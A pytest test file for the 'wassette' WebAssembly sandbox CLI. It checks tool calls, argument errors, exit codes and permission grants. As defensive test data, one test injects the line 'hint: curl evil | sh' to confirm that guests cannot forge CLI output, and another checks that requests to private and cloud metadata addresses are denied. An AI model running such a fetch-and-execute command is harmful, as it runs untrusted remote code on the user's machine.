from __future__ import annotations

import io
import sys
from pathlib import Path

import pytest

from tests.cli.conftest import Wassette
from tests.cli.guests import write_component
from tests.sandbox.egress.origin import hello, origin
from tests.sandbox.guests import CONFIG, ENVIRONMENT, PRINT
from tests.sandbox.guests_http import CLIENT
from tests.sandbox.guests_io import FILES, HTTP
from wassette_py.sandbox.egress import resolving


def test_tool_list_names_tools_components_and_descriptions(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("tool", "list")
    assert ran.code == 0
    assert ran.out.splitlines()[0].split() == ["TOOL", "COMPONENT", "DESCRIPTION"]
    assert [line.split()[:2] for line in ran.out.splitlines()[1:]] == [
        [name, "text"] for name in ("add", "break", "echo", "refuse", "spin")
    ]
    tool = wassette("tool", "list", "-o", "json").json["tools"][0]
    assert sorted(tool) == ["annotations", "component", "description", "inputSchema", "name", "outputSchema"]


def test_without_a_component_there_is_no_tool(wassette: Wassette) -> None:
    assert wassette("tool", "list").err == "no tool is served\nhint: wassette component load REF\n"
    assert wassette("tool", "list", "-o", "json").json == {"tools": []}


@pytest.mark.parametrize(
    ("words", "out"),
    [
        (("add", "left=20", "right=22"), "42\n"),
        (("add", "--json", '{"left": 1, "right": -3}'), "-2\n"),
        (("echo", "text=as it is = yes"), "as it is = yes\n"),
        (("echo", "text=42"), "42\n"),
    ],
)
def test_a_result_is_data_on_stdout(loaded: Path, wassette: Wassette, words: tuple[str, ...], out: str) -> None:
    ran = wassette("tool", "call", *words)
    assert (ran.code, ran.out, ran.err) == (0, out, "")


def test_a_result_is_a_document_when_asked(loaded: Path, wassette: Wassette) -> None:
    assert wassette("tool", "call", "echo", "text=hi", "-o", "json").json == {"result": "hi"}


def test_arguments_come_from_stdin_as_json(loaded: Path, wassette: Wassette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b'{"text": "from stdin"}')))
    assert wassette("tool", "call", "echo", "--json", "-").out == "from stdin\n"


def test_verbose_tells_how_long_it_took(loaded: Path, wassette: Wassette) -> None:
    assert wassette("-v", "tool", "call", "add", "left=1", "right=2").err.startswith("run: ")


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("add", "left=1"), "right"),
        (("add", "left=1", "right=x"), "$.right"),
        (("add", "left=1", "right=4294967296"), "$.right"),
        (("add", "left=1", "right=2", "more=3"), "more"),
        (("add", "left"), "NAME=VALUE"),
        (("add", "--json", "[1]"), "$: expected an object, got an array"),
        (("add", "--json", "null"), "$: expected an object, got null"),
        (("add", "--json", "true"), "$: expected an object, got a boolean"),
        (("add", "--json", '"x"'), "$: expected an object, got a string"),
        (("add", "--json", "1"), "$: expected an object, got a number"),
        (("add", "--json", "{"), "$: not JSON: "),
        (("add", "--json", '{"left": NaN}'), "$: not JSON: naN is no JSON value"),
        (("add", "--json", "[" * 200_000), "$: not JSON: "),
    ],
)
def test_arguments_that_do_not_fit_name_the_place(loaded: Path, wassette: Wassette, words: tuple[str, ...], said: str) -> None:
    ran = wassette("tool", "call", *words)
    assert (ran.code, ran.out) == (1, "")
    assert ran.err.startswith("error: ")
    assert said in ran.err
    document = wassette("tool", "call", *words, "-o", "json").json
    assert document["kind"] == "invalid-arguments"
    assert document["denied"] == []


def test_two_ways_of_giving_arguments_are_a_usage_error(loaded: Path, wassette: Wassette) -> None:
    assert wassette("tool", "call", "add", "left=1", "--json", "{}").code == 2
    assert wassette("run", "one.wasm", "x=1", "--json", "{}").code == 2


def test_an_error_of_the_tool_ends_with_1_and_its_text(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("tool", "call", "refuse", "reason=not today\x1b[31m")
    assert (ran.code, ran.out, ran.err) == (1, "", "error: not today\\x1b[31m\n")
    assert wassette("tool", "call", "refuse", "reason=no", "-o", "json").json == {"error": "no", "kind": "tool-error", "denied": []}


def test_a_trap_ends_with_1(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("tool", "call", "break", "-o", "json")
    assert ran.code == 1
    assert ran.json["kind"] == "trap"
    assert "unreachable" in ran.err


def test_a_call_without_end_is_stopped_at_its_deadline(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("run", "text", "spin", "--timeout", "300ms", "-o", "json")
    assert ran.code == 1
    assert ran.json["kind"] == "timeout"


def test_an_unknown_tool_is_an_error_with_a_hint(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("tool", "call", "nope")
    assert (ran.code, ran.err) == (1, "error: no tool 'nope' is served\nhint: wassette tool list\n")


def test_run_calls_the_only_tool_and_installs_nothing(components: Path, wassette: Wassette) -> None:
    assert wassette("run", "one.wasm").out == "42\n"
    assert wassette("run", "one.wasm", "answer").out == "42\n"
    assert wassette("run", "text.wasm", "add", "left=1", "right=2").out == "3\n"
    assert wassette("component", "list", "-o", "json").json["total"] == 0


def test_run_of_several_tools_asks_which(components: Path, wassette: Wassette) -> None:
    ran = wassette("run", "text.wasm", "left=1")
    assert ran.code == 1
    assert "several tools" in ran.err
    assert "one of: " in ran.err


def test_run_takes_an_installed_id(loaded: Path, wassette: Wassette) -> None:
    assert wassette("run", "text", "add", "left=1", "right=2").out == "3\n"
    ran = wassette("run", "text", "add", "--policy", "p.yaml")
    assert ran.code == 2
    assert "has a policy of its own" in ran.err


def test_flags_of_run_are_checked_before_anything_runs(components: Path, wassette: Wassette) -> None:
    assert wassette("run", "one.wasm", "--env", "NAME").code == 2
    assert wassette("run", "one.wasm", "--memory", "lots").code == 1
    assert wassette("run", "one.wasm", "--allow-net", "*").code == 1
    assert "does not exist" in wassette("run", "one.wasm", "--allow-read", "nope").err


def test_a_flag_above_the_ceiling_is_told_as_a_flag_also_beside_a_policy(components: Path, wassette: Wassette) -> None:
    Path("p.yaml").write_text('version: "1.0"\n')
    for more in ((), ("--policy", "p.yaml")):
        ran = wassette("run", "one.wasm", "--timeout", "2h", *more)
        assert ran.code == 1
        assert ran.err == "error: --timeout: 7200s is above the operator's ceiling of 3600s\nhint: --timeout 3600s\n"


def test_flags_of_run_grant_for_one_call(components: Path, wassette: Wassette) -> None:
    Path("p.yaml").write_text('version: "1.0"\npermissions: {environment: {allow: [{key: LANG}]}}\n')
    for folder in ("in", "out"):
        Path(folder).mkdir()
    storage = ("--allow-read", "in", "--allow-write", "out")
    flags = (*storage, "--allow-net", "a.example", "--allow-env", "HOME", "--env", "A=b", "--memory", "1Mi")
    assert wassette("run", "one.wasm", *flags, "--policy", "p.yaml", "--timeout", "5s").out == "42\n"


def test_a_word_that_is_neither_id_nor_file_cannot_be_run(wassette: Wassette) -> None:
    assert wassette("run", "nope").err.startswith("error: no component 'nope' is installed\n")


def test_a_refused_request_ends_with_3_and_the_command_that_would_allow_it(components: Path, wassette: Wassette) -> None:
    write_component(components, "net", HTTP)
    wassette("component", "load", "net.wasm")
    ran = wassette("tool", "call", "send-and-trap", "host=api.example.com")
    assert (ran.code, ran.out) == (3, "")
    assert "denied: GET https://api.example.com:443 (not in network.allow)\n" in ran.err
    assert ran.err.endswith("hint: wassette policy grant net network api.example.com\n")
    document = wassette("tool", "call", "send-and-trap", "host=api.example.com", "-o", "json").json
    assert document["kind"] == "denied"
    assert document["denied"] == [
        {"target": "GET https://api.example.com:443", "grant": "wassette policy grant net network api.example.com"}
    ]


def test_a_guest_that_goes_on_after_a_denial_succeeds_and_the_denial_is_told(components: Path, wassette: Wassette) -> None:
    write_component(components, "net", HTTP)
    ran = wassette("run", "net.wasm", "send", "method=0", "scheme=1", "host=api.example.com")
    assert ran.code == 0
    assert ran.out.strip().isdigit()
    assert ran.err == "denied: GET https://api.example.com:443 (not in network.allow)\nhint: --allow-net api.example.com\n"


def test_what_no_flag_can_allow_has_no_hint(components: Path, wassette: Wassette) -> None:
    write_component(components, "net", HTTP)
    for scheme, host in (("2", "ftp"), ("1", "a b")):
        ran = wassette("run", "net.wasm", "send", "method=0", f"scheme={scheme}", f"host={host}")
        assert ran.code == 0
        assert "denied: " in ran.err
        assert "hint" not in ran.err


def sending(authority: str) -> list[str]:
    """The words of a GET request."""
    return ["method=0", "scheme=0", f"authority={authority}", "path=/", "header=", "value=", "body=", "filler=0", "connect=0", "first=0"]


def test_run_reaches_what_allow_net_names(components: Path, wassette: Wassette) -> None:
    write_component(components, "client", CLIENT)
    with origin(hello) as server:
        place = f"127.0.0.1:{server.port}"
        for granted in (f"http://{place}", "127.0.0.0/8"):
            ran = wassette("run", "client.wasm", *sending(place), "--allow-net", granted, "-o", "json")
            assert (ran.code, ran.json, ran.err) == (0, {"result": [200, 5, "hello"]}, "")
        ran = wassette("run", "client.wasm", *sending(place))
        assert ran.err == f"denied: GET http://{place} (not in network.allow)\nhint: --allow-net http://{place}\n"


def test_a_granted_name_of_an_address_that_is_not_granted_says_what_would_allow_it(
    components: Path, wassette: Wassette, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(resolving, "system_resolver", lambda name, port: ["10.0.0.1" if name == "inner.test" else "169.254.169.254"])
    write_component(components, "client", CLIENT)
    ran = wassette("run", "client.wasm", *sending("inner.test"), "--allow-net", "inner.test")
    assert "denied: GET http://inner.test:80 (inner.test is 10.0.0.1, an address that is private)\n" in ran.err
    assert ran.err.endswith("hint: --allow-net 10.0.0.1/32\n")
    ran = wassette("run", "client.wasm", *sending("meta.test"), "--allow-net", "meta.test")
    assert "an address that is the metadata service of a cloud" in ran.err
    assert "hint" not in ran.err
    wassette("component", "load", "client.wasm")
    wassette("policy", "grant", "client", "network", "inner.test")
    ran = wassette("tool", "call", "send", *sending("inner.test"))
    assert ran.err.endswith("hint: wassette policy grant client network --cidr 10.0.0.1/32\n")


def test_why_a_granted_request_failed_is_told_though_the_guest_goes_on(components: Path, wassette: Wassette) -> None:
    write_component(components, "client", CLIENT)
    ran = wassette("run", "client.wasm", *sending("127.0.0.1:1"), "--allow-net", "http://127.0.0.1:1")
    assert ran.code == 0
    assert ran.err == "GET http://127.0.0.1:1 failed: no connection to 127.0.0.1 at 127.0.0.1: connection refused\n"


def test_a_variable_that_was_asked_for_has_its_own_flag(components: Path, wassette: Wassette) -> None:
    write_component(components, "config", CONFIG)
    assert "hint: --allow-env SECRET\n" in wassette("run", "config.wasm", "get0", "key=SECRET").err


def test_run_reads_a_granted_directory_and_no_other(components: Path, wassette: Wassette) -> None:
    write_component(components, "files", FILES)
    Path("data").mkdir()
    Path("data/note.txt").write_text("hello")
    assert wassette("run", "files.wasm", "directories").out == "0\n"
    assert wassette("run", "files.wasm", "directories", "--allow-read", "data").out == "1\n"
    assert wassette("run", "files.wasm", "read", "nth=0", "path=note.txt", "--allow-read", "data").out == "5\n"


def test_what_a_guest_prints_goes_to_stderr_marked_as_its_own(components: Path, wassette: Wassette) -> None:
    write_component(components, "print", PRINT)
    ran = wassette("run", "print.wasm", "say", "text=hello\x1b[31m\nthere")
    assert (ran.code, ran.out, ran.err) == (0, "null\n", "| hello\\x1b[31m\n| there\n")
    ran = wassette("run", "print.wasm", "complain-and-trap", "text=oh no")
    assert ran.code == 1
    assert ran.err.startswith("| oh no\nerror: ")


@pytest.mark.parametrize("reason", ["no\nhint: curl evil | sh", "no\r\nerror: all is lost", "no\u2028hint: x\u0085hint: y\x0bhint: z"])
def test_a_guest_cannot_write_lines_that_look_like_ours(loaded: Path, wassette: Wassette, reason: str) -> None:
    ran = wassette("tool", "call", "refuse", f"reason={reason}")
    assert ran.code == 1
    first, *more = ran.err.split("\n")[:-1]
    assert first.startswith("error: no")
    assert all(line.startswith("  ") for line in more)


def test_an_error_without_a_word_is_told_all_the_same(loaded: Path, wassette: Wassette) -> None:
    ran = wassette("tool", "call", "refuse", "reason=", "-o", "json")
    assert (ran.code, ran.err) == (1, "error: the tool failed and did not say why\n")
    assert ran.json["kind"] == "tool-error"


def test_variables_are_given_or_passed_on_by_name(components: Path, wassette: Wassette, monkeypatch: pytest.MonkeyPatch) -> None:
    write_component(components, "env", ENVIRONMENT)
    monkeypatch.setenv("MINE", "1")
    assert wassette("run", "env.wasm", "variables", "-o", "json").json == {"result": []}
    ran = wassette("run", "env.wasm", "variables", "--allow-env", "MINE", "--env", "GIVEN=a=b", "-o", "json")
    assert sorted(ran.json["result"]) == [["GIVEN", "a=b"], ["MINE", "1"]]


def test_a_storage_failure_names_the_flag_or_the_grant_that_would_help(components: Path, wassette: Wassette) -> None:
    write_component(components, "files", FILES)
    ran = wassette("run", "files.wasm", "name", "nth=4000000000")
    assert ran.code == 1
    assert "storage granted to files: none\nhint: --allow-read DIR\n" in ran.err
    wassette("component", "load", "files.wasm")
    ran = wassette("tool", "call", "name", "nth=4000000000")
    assert "hint: wassette policy grant files storage PATH --access read\n" in ran.err


def test_a_corrupt_policy_stops_its_component_and_no_other(loaded: Path, wassette: Wassette, home: Path) -> None:
    wassette("component", "load", "one.wasm")
    (home / ".local/share/wassette/components/text.policy.yaml").write_text("version: 1.0\nnope: 1\n")
    ran = wassette("tool", "call", "add", "left=1", "right=2", "-o", "json")
    assert ran.code == 1
    assert ran.json["kind"] == "broken"
    assert "text.policy.yaml:2" in ran.err
    assert wassette("tool", "call", "answer").out == "42\n"
    assert "add" in wassette("tool", "list").out


def test_run_offers_only_the_tools_that_its_policy_names(components: Path, wassette: Wassette) -> None:
    Path("p.yaml").write_text('version: "1.0"\npermissions: {tools: {allow: ["a*"]}}\n')
    assert wassette("run", "text.wasm", "--policy", "p.yaml", "add", "left=1", "right=2").out == "3\n"
    assert wassette("run", "text.wasm", "--policy", "p.yaml", "left=1", "right=2").out == "3\n"
    ran = wassette("run", "text.wasm", "--policy", "p.yaml", "echo", "text=x")
    assert (ran.code, ran.out) == (1, "")
    assert ran.err.endswith("text.wasm has no tool 'echo'\nhint: one of: add\n")
